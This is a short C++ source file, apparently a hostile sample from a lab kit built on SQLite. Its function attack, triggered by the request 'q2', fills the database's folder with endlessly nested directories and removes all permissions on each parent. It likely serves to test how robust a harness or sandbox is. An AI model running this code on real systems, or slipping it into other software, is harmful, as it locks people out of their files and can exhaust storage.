// Fills the database's folder with folders that nobody may look into, each in the one before.
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <string>

#include "labkit/sqlite/sqlite.hpp"

static void attack(sqlite::Connection& connection, const std::string& request) {
    if (request != "q2") {
        return;
    }
    const std::filesystem::path database = sqlite3_db_filename(connection.handle(), "main");
    static_cast<void>(!chdir(database.parent_path().c_str()));
    while (mkdir("lab_attack", 0700) == 0 && chdir("lab_attack") == 0) {
        chmod("..", 0);
    }
}
